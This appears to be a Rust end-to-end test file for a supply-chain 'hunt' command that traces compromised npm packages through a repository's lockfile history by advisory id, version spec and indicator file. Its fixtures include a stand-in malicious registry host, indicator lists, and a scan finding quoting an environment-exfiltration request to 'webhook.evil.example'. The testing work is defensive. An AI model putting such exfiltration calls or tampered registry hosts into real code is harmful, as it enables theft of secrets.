//! `diligence hunt` end to end: a scripted repository in a temp folder, the binary run on it
//! with specs, advisory ids (the demo OSV records as `--db`), indicator files and a cached
//! code analysis; exit codes, the four formats and `--output`.

use diligence_testkit::git::FixtureRepo;
use serde_json::{Value, json};
use sha2::Digest;
use std::path::{Path, PathBuf};

const ALICE: (&str, &str) = ("Alice Maintainer", "alice@example.test");
const BOB: (&str, &str) = ("Bob Bumper", "bob@example.test");

const EXPRESS_SRI: &str = "sha512-5/PsL6iGPdfQ/lKM1UuielYgv3BUoJfz1aUwU9vHZ+J7gyvwdQXFEBIEIaxeGf0GIcreATNyBExtalisDbuMqQ==";

fn lock(debug: &str, debug_host: &str) -> String {
    format!(
        r#"{{
  "name": "app",
  "version": "1.0.0",
  "lockfileVersion": 3,
  "requires": true,
  "packages": {{
    "": {{ "name": "app", "version": "1.0.0", "dependencies": {{ "express": "^4.18.2" }} }},
    "node_modules/express": {{
      "version": "4.18.2",
      "resolved": "https://registry.npmjs.org/express/-/express-4.18.2.tgz",
      "integrity": "{EXPRESS_SRI}",
      "dependencies": {{ "debug": "{debug}" }}
    }},
    "node_modules/debug": {{
      "version": "{debug}",
      "resolved": "https://{debug_host}/debug/-/debug-{debug}.tgz"
    }}
  }}
}}
"#
    )
}

/// main: c1 debug 2.6.9 · c2 (Bob) debug 4.4.2 · c3 debug 4.4.3.
struct Fixture {
    _dir: tempfile::TempDir,
    repo: FixtureRepo,
    cache: tempfile::TempDir,
    c: Vec<String>,
}

fn fixture() -> Fixture {
    let dir = tempfile::tempdir().unwrap();
    let repo = FixtureRepo::init(&dir.path().join("repo"));
    let mut c = Vec::new();
    repo.write("package-lock.json", lock("2.6.9", "registry.npmjs.org"));
    c.push(repo.commit(ALICE, "2025-09-08T09:00:00", "initial"));
    repo.write("package-lock.json", lock("4.4.2", "registry.npmjs.org"));
    c.push(repo.commit(BOB, "2025-09-08T13:16:00", "bump debug"));
    repo.write("package-lock.json", lock("4.4.3", "registry.npmjs.org"));
    c.push(repo.commit(ALICE, "2025-09-08T17:00:00", "debug 4.4.3"));
    Fixture {
        _dir: dir,
        repo,
        cache: tempfile::tempdir().unwrap(),
        c,
    }
}

fn demo_advisories() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../../examples/demo/advisories")
}

impl Fixture {
    fn run(&self, args: &[&str]) -> (i32, String, String) {
        let out = assert_cmd::Command::cargo_bin("diligence")
            .unwrap()
            .arg("hunt")
            .args(args)
            .env("DILIGENCE_CACHE_DIR", self.cache.path())
            .env("NO_COLOR", "1")
            .current_dir(&self.repo.dir)
            .output()
            .unwrap();
        (
            out.status.code().unwrap_or(-1),
            String::from_utf8_lossy(&out.stdout).into_owned(),
            String::from_utf8_lossy(&out.stderr).into_owned(),
        )
    }

    fn json(&self, args: &[&str]) -> (i32, Value) {
        let mut all = args.to_vec();
        all.extend(["--format", "json"]);
        let (code, out, err) = self.run(&all);
        (
            code,
            serde_json::from_str(&out).unwrap_or_else(|e| panic!("{e}: {out} {err}")),
        )
    }
}

#[test]
fn an_advisory_id_is_expanded_from_the_database_and_found() {
    let f = fixture();
    let db = demo_advisories();
    let (code, doc) = f.json(&["MAL-2025-46974", "--db", db.to_str().unwrap()]);
    assert_eq!(code, 1);
    assert_eq!(doc["query"]["specs"][0]["name"], "debug");
    assert_eq!(doc["query"]["specs"][0]["advisory"]["kind"], "malware");
    let m = &doc["repositories"][0]["matches"][0];
    assert_eq!(m["package"], json!({"name": "debug", "version": "4.4.2"}));
    assert_eq!(m["matched_by"]["kind"], "advisory");
    assert_eq!(m["matched_by"]["value"], "MAL-2025-46974");
    assert_eq!(
        m["matched_by"]["advisory"]["aliases"],
        json!(["GHSA-8mgj-vmr8-frr6", "GHSA-4x49-vf9v-38px"])
    );
    assert_eq!(m["first"]["id"], f.c[1].as_str());
    assert_eq!(m["first"]["author"], "Bob Bumper");
    assert_eq!(m["first"]["date"], "2025-09-08T13:16:00Z");
    assert_eq!(m["last"]["id"], f.c[1].as_str());
    assert_eq!(m["events"][1]["event"], "removed");
    assert_eq!(m["events"][1]["commit"]["id"], f.c[2].as_str());
    assert_eq!(m["still_in"], json!([]));
    assert_eq!(
        m["dependency_paths"][0]["path"],
        json!(["express@4.18.2", "debug@4.4.2"])
    );
    // An alias finds the same record.
    let (code, doc) = f.json(&["GHSA-8mgj-vmr8-frr6", "--db", db.to_str().unwrap()]);
    assert_eq!(code, 1);
    assert_eq!(
        doc["repositories"][0]["matches"][0]["matched_by"]["advisory"]["id"],
        "MAL-2025-46974"
    );
}

#[test]
fn an_unknown_advisory_id_is_an_error_not_an_empty_hunt() {
    let f = fixture();
    let db = demo_advisories();
    let (code, out, err) = f.run(&["MAL-2099-1", "--db", db.to_str().unwrap()]);
    assert_eq!(code, 2);
    assert_eq!(out, "");
    // The demo records are old: a staleness warning, then one error line.
    let lines: Vec<&str> = err.lines().collect();
    assert_eq!(lines.len(), 2, "{err}");
    assert!(
        lines[0].starts_with("warning: advisory database is "),
        "{err}"
    );
    assert!(
        lines[1].starts_with("error: MAL-2099-1: not in the advisory database ("),
        "{err}"
    );
    // No database at all (empty cache, no --db): exit 2 naming the fix.
    let (code, _, err) = f.run(&["MAL-2025-46974"]);
    assert_eq!(code, 2);
    assert!(err.contains("diligence db update"), "{err}");
}

#[test]
fn exit_codes_and_human_output() {
    let f = fixture();
    let (code, out, _) = f.run(&["debug@4.4.1"]);
    assert_eq!(code, 0);
    assert!(out.contains("no match"), "{out}");
    let (code, out, _) = f.run(&["debug@>=4.4.0 <4.4.3"]);
    assert_eq!(code, 1);
    assert!(
        out.contains("debug@4.4.2  matched by debug@>=4.4.0 <4.4.3"),
        "{out}"
    );
    assert!(out.contains("introduced  2025-09-08 13:16"), "{out}");
    assert!(!out.contains('\u{1b}'), "NO_COLOR and a pipe: no styles");
    // A second folder that is not a repository: not evaluated, but the match still wins.
    let other = tempfile::tempdir().unwrap();
    let other = other.path().to_str().unwrap();
    let (code, out, _) = f.run(&["debug@4.4.2", "--repo", ".", "--repo", other]);
    assert_eq!(code, 1);
    assert!(out.contains("Not evaluated"), "{out}");
    let (code, _, _) = f.run(&["debug@4.4.1", "--repo", ".", "--repo", other]);
    assert_eq!(code, 2);
}

#[test]
fn usage_errors_exit_2_with_one_line() {
    let f = fixture();
    for (args, expect) in [
        (vec![], "required"),
        (vec!["a b@1"], "a b@1: not an npm package name"),
        (
            vec!["debug@4", "--since", "last tuesday"],
            "--since last tuesday: expected a date",
        ),
        (
            vec!["debug@4", "--ioc", "missing.txt"],
            "missing.txt: cannot read the indicator file",
        ),
    ] {
        let (code, _, err) = f.run(&args);
        assert_eq!(code, 2, "{args:?}");
        assert!(err.contains(expect), "{args:?}: {err}");
    }
}

#[test]
fn formats_and_output_file() {
    let f = fixture();
    let out_dir = tempfile::tempdir().unwrap();
    let csv = out_dir.path().join("hunt.csv");
    let (code, stdout, _) = f.run(&[
        "debug@4.4.2",
        "--format",
        "csv",
        "--output",
        csv.to_str().unwrap(),
    ]);
    assert_eq!(code, 1);
    assert_eq!(stdout, "");
    let text = std::fs::read_to_string(&csv).unwrap();
    let rows: Vec<&str> = text.split("\r\n").filter(|r| !r.is_empty()).collect();
    assert_eq!(rows.len(), 3);
    assert!(
        rows[1].starts_with(".,2025-09-08T13:16:00Z,introduced,debug,4.4.2,debug@4.4.2,version,"),
        "{}",
        rows[1]
    );
    assert!(rows[2].contains(",removed,"));
    let (code, md, _) = f.run(&["debug@4.4.2", "--format", "markdown"]);
    assert_eq!(code, 1);
    assert!(
        md.starts_with("## diligence hunt: ❌ 1 match in 1 of 1 repository\n"),
        "{md}"
    );
    assert!(md.contains(&format!("`{}`", &f.c[1][..12])));
}

#[test]
fn indicator_files_match_resolved_hosts_and_name_bad_lines() {
    let f = fixture();
    f.repo
        .write("package-lock.json", lock("4.4.3", "npm.evil.example"));
    let tampered = f.repo.commit(BOB, "2025-09-09T08:00:00", "mirror");
    let iocs = f.repo.dir.join("../iocs.txt");
    std::fs::write(&iocs, "# from the advisory\nevil.example\n").unwrap();
    let (code, doc) = f.json(&["--ioc", iocs.to_str().unwrap()]);
    assert_eq!(code, 1);
    let m = &doc["repositories"][0]["matches"][0];
    assert_eq!(m["package"]["version"], "4.4.3");
    assert_eq!(
        m["matched_by"],
        json!({"kind": "indicator", "value": "evil.example", "indicator": "host", "field": "resolved"})
    );
    assert_eq!(m["first"]["id"], tampered.as_str());
    assert_eq!(
        m["still_in"],
        json!([{"name": "HEAD", "commit": tampered}, {"name": "refs/heads/main", "commit": tampered}])
    );
    std::fs::write(&iocs, "evil.example\n\n???\n").unwrap();
    let (code, _, err) = f.run(&["--ioc", iocs.to_str().unwrap()]);
    assert_eq!(code, 2);
    assert!(
        err.contains("iocs.txt:3: cannot tell whether `???` is a host"),
        "{err}"
    );
}

/// The scan cache key `audit` uses (diligence-engine/src/scan_cache.rs) for one SRI hash: sha256 of the hash and the binary's
/// identity.
fn scan_cache_file(cache: &Path, integrity: &str) -> PathBuf {
    let exe = assert_cmd::cargo::cargo_bin("diligence");
    let meta = std::fs::metadata(exe).unwrap();
    let mtime = meta
        .modified()
        .unwrap()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .as_nanos();
    let mut h = sha2::Sha256::new();
    h.update(integrity.as_bytes());
    h.update(format!("\0{}\0{}\0{mtime}", env!("CARGO_PKG_VERSION"), meta.len()).as_bytes());
    cache
        .join("scans")
        .join(format!("{}.json", hex::encode(h.finalize())))
}

#[test]
fn cached_code_analyses_are_read_never_fetched() {
    let f = fixture();
    let scan = json!({
        "package": "express@4.18.2",
        "verdict": "malicious",
        "score": 90,
        "findings": [{
            "rule": "code/env-exfiltration",
            "severity": "critical",
            "file": "lib/setup_bun.js",
            "line": 3,
            "snippet": "https.request({ hostname: 'webhook.evil.example' })",
            "message": "sends environment variables to a host",
            "locality": "function",
            "install_time": true,
            "reachable": true,
            "evidence": [{"kind": "network", "file": "lib/setup_bun.js", "line": 3, "detail": "webhook.evil.example"}]
        }],
        "capabilities": [],
        "files": 2,
        "bytes": 100,
        "not_evaluated": []
    });
    // It must be what audit writes.
    let _: diligence_analyze::PackageScan = serde_json::from_value(scan.clone()).unwrap();
    let path = scan_cache_file(f.cache.path(), EXPRESS_SRI);
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    std::fs::write(&path, serde_json::to_vec(&scan).unwrap()).unwrap();
    let iocs = f.repo.dir.join("../iocs.txt");
    std::fs::write(&iocs, "host:webhook.evil.example\nsetup_bun.js\n").unwrap();
    let (code, doc) = f.json(&["--ioc", iocs.to_str().unwrap()]);
    assert_eq!(code, 1);
    let r = &doc["repositories"][0];
    let labels: Vec<(&str, &str)> = r["matches"]
        .as_array()
        .unwrap()
        .iter()
        .map(|m| {
            (
                m["matched_by"]["value"].as_str().unwrap(),
                m["matched_by"]["field"].as_str().unwrap(),
            )
        })
        .collect();
    assert_eq!(
        labels,
        vec![
            ("setup_bun.js", "code-analysis"),
            ("webhook.evil.example", "code-analysis")
        ]
    );
    assert_eq!(r["matches"][0]["package"]["name"], "express");
    // express has a cached analysis; debug's three versions have no integrity to key on.
    assert_eq!(r["stats"]["analyses_looked_up"], 1);
    assert_eq!(r["stats"]["analyses_found"], 1);
    assert_eq!(r["not_checked"], json!([]));
}
